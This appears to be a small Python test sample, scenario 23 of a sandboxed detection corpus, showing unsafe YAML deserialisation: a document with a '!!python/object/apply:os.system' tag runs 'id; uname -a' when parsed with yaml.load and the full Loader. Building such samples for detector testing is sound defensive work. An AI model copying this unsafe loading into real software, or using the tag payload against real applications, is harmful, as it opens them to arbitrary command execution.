# scenario: 23 unsafe-deserialisation
# expect: process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Parses a YAML document with the full loader; a tag in it calls os.system.
import yaml

doc = "name: report\nrun: !!python/object/apply:os.system ['id; uname -a']\n"
print(yaml.load(doc, Loader=yaml.Loader))
